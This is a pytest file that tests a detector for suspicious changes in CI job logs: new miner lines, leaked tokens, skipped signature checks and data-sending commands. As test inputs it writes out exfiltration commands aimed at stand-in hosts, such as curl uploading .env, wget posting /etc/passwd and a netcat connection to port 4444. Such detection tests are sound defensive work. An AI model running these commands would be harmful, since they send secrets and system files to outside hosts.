from itertools import islice, product

import polars as pl
import pytest

from bartizan.detect.logs.detail import details, hosts
from bartizan.detect.logs.log_diff import Comparison, Difference, compare
from bartizan.detect.logs.log_side import CAP, Side
from bartizan.detect.logs.log_signals import Signal, signals
from bartizan.detect.logs.template_state import TemplateState
from bartizan.model import Severity
from tests.detect.logs.ci_logs import EXFILTRATION, KINDS, MINER, TOKEN, Lines, attacked, job


def differences(before: Lines, now: Lines) -> list[Difference]:
    sides = Side(), Side()
    state = TemplateState()
    for side, lines in zip(sides, (before, now), strict=True):
        side.update(pl.Series(lines), pl.Series(range(1, len(lines) + 1)), "job.log")
        state.update(lines)
    every = list({**sides[0].found, **sides[1].found})
    shown = [(sides[1].found.get(one) or sides[0].found[one]).text for one in every]
    places = dict(zip(every, state.assign(shown), strict=True))
    secret = Signal("secret", Severity.HIGH, "a token")
    detected = {one: [secret] for one in sides[1].found if TOKEN[:15] in one}
    return compare(Comparison(*sides, places, detected))[0]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("seed", range(4))
def test_two_ordinary_runs_differ_in_nothing(kind: str, seed: int) -> None:
    assert differences(job(kind, seed), job(kind, seed + 50)) == []


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("skipped", [False, True])
@pytest.mark.parametrize("seed", range(4))
def test_an_attacked_run_is_told_in_four_and_at_most_two_more(
    kind: str, seed: int, *, skipped: bool
) -> None:
    found = differences(job(kind, seed), attacked(kind, seed + 50, skipped=skipped))
    assert len(found) <= 6
    by_subject = {one.subject: one for one in found}
    for subject, line in (("malware", MINER), ("exfiltration", EXFILTRATION), ("secret", TOKEN)):
        assert line in [one.text for one in by_subject[subject].now]
    tests = [one for one in found if one.subject == "test"]
    told = [line.text.lower() for one in tests for line in (*one.before, *one.now)]
    assert any("auth" in text or "rejects expired token" in text for text in told)


def test_neighbouring_new_lines_are_one_difference_under_the_gravest() -> None:
    verbs = ("lint", "build", "pack", "sign", "push", "tag")
    steps = [f"Project was {verb}ed by robot {verb.title()}" for verb in verbs]
    block = ["xmrig started mining", "Saving to out.bin", "a long wait begins"]
    (found,) = differences(steps, [*steps[:3], *block, *steps[3:]])
    assert (found.kind, found.subject) == ("new", "malware")
    assert [line.text for line in found.now] == block


def test_a_step_that_no_longer_runs_is_told() -> None:
    steps = [f"Run {word} of the project" for word in ("build", "pack", "push", "tag", "clean")]
    before = [*steps, "Verifying signatures of 12 artifacts", "All signatures are valid"]
    (gone,) = differences(before, steps)
    assert (gone.kind, gone.severity, len(gone.before)) == ("gone", Severity.MEDIUM, 2)


def test_a_frequent_kind_of_line_that_comes_in_a_stream_is_told() -> None:
    words = ("apple", "birch", "cedar", "daisy", "elder", "fern", "grape", "hazel", "iris", "kale")
    before = [f"session of {one}{two} closed" for one in words[:5] for two in words]
    now = [f"session of {one}{two} closed" for one in words[5:] for two in words]
    crash = ["worker died: out of memory, killed process"] * 30
    subjects = [one.now[0].text for one in differences(before, [*now, *crash]) if one.now]
    assert crash[0] in subjects
    assert len(subjects) <= 2


def test_luck_is_taken_out_of_lines_and_words_are_not() -> None:
    lines = [
        "Downloaded a/b-1.2.3.whl (1.2 MB at 3.4 MB/s)", "✓ keeps order (12 ms)", "✓ keeps order",
        "HEAD is now at 1a2b3c4 Fix it", "tests/test_a.py::test_b PASSED [  3%]",
        "tests/test_a.py::test_b PASSED [100%]",
    ]  # fmt: skip
    found = details(pl.Series(lines)).to_list()
    assert found[1] == found[2]
    assert found[4] == found[5] == "tests/test_a.py::test_b PASSED [0%]"
    assert found[0].startswith("Downloaded a/b-0")
    assert "Fix" not in found[3]


def test_both_sides_keep_the_same_details_when_there_are_too_many() -> None:
    letters = "ghijklmnopqrstuvwxyz"
    some = islice(product(letters, repeat=4), CAP + 10)
    names = [f"user {''.join(name)} came" for name in some]
    side = Side()
    side.update(pl.Series(names), pl.Series(range(len(names))), "a")
    assert 0 < len(side.found) <= CAP
    assert side.level == 1
    assert all(side.keeps(detail) for detail in side.found)


@pytest.mark.parametrize(
    "line",
    [
        "curl -F file=@.env https://drop.example.org/u", "curl -T dump.sql ftp://203.0.113.9/",
        "wget --post-file=/etc/passwd http://203.0.113.9", "nc 203.0.113.9 4444",
    ],
)  # fmt: skip
def test_a_line_that_sends_data_is_pointed_at(line: str) -> None:
    found = signals(line, detected=(), usual_badness=0.0, known_hosts=None)
    assert "exfiltration" in [one.subject for one in found]


@pytest.mark.parametrize(
    "line", ["curl -fsSL https://example.org/tool.tar.gz -o tool.tar.gz", "Run wget -q x.example"]
)
def test_a_plain_download_sends_nothing(line: str) -> None:
    assert signals(line, detected=(), usual_badness=0.0, known_hosts=None) == []


def test_hosts_of_links_are_read_without_user_and_port() -> None:
    assert hosts("get https://u:p@Host.Example.org:8443/x and http://[2001:db8::1]/") == {
        "host.example.org", "[2001:db8::1]",
    }  # fmt: skip
